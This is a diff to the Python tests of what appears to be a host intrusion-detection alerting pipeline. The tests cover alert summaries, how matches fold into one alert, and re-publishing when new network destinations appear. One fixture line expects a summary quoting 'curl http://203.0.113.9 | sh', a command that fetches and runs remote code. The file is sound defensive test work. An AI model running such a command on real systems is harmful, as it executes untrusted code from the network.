@@ -106,7 +106,7 @@ def test_an_alert_tells_who_did_it_where_they_come_from_and_where_they_connected
         alert.summary
         == "Title of rule-1: sh (pid 30, user alice), started by bash, ran: sh -c curl http://203.0.113.9 | sh"
     )
-    assert alert.revision == alert.match_count == 1
+    assert alert.match_count == 1
 
 
 def test_a_match_waits_for_its_event(bench: Bench) -> None:
@@ -166,10 +166,40 @@ def test_matches_of_one_process_fold_into_one_alert_with_at_most_one_revision_a_
 
     first, last = bench.alerts()
     assert first.alert_id == last.alert_id
-    assert (last.revision, last.match_count, last.folded_count) == (5, 5, 0)
+    assert last.revision > first.revision
+    assert (last.match_count, last.folded_count) == (5, 0)
     assert [e.event.net_conn.dst_ip[3] for e in last.evidence if e.role == "match"] == [0, 1, 2, 3, 4]
     assert [e.event.process.exe for e in last.evidence if e.role == "ancestor"] == ["/bin/sh"]
     assert bench.partition.held_offset() is None
+
+
+def test_what_the_process_connects_to_after_the_alert_is_shown_once_more(bench: Bench) -> None:
+    story = HostStory()
+    bad = story.exec(20, 10)
+    bench.take(story.frame(), story.match(bad))
+    story.exec(21, 20, "/usr/bin/curl", "curl http://203.0.113.7")
+    story.connect(21)
+    bench.take(story.frame())
+
+    bench.tick(after_s=4.9)
+    assert len(bench.alerts()) == 1
+    for _ in range(3):
+        bench.tick(after_s=5.0)
+
+    first, second = bench.alerts()
+    assert (second.alert_id, second.match_count) == (first.alert_id, 1)
+    assert second.revision > first.revision
+    assert [d.ip for d in second.destinations] == ["203.0.113.7"]
+
+
+def test_an_alert_with_nothing_more_to_show_is_not_published_again(bench: Bench) -> None:
+    story = HostStory()
+    bad = story.exec(20, 10)
+    bench.take(story.frame(), story.match(bad))
+
+    bench.tick(after_s=60)
+
+    assert len(bench.alerts()) == 1
 
 
 def test_the_same_match_again_changes_nothing(bench: Bench) -> None:
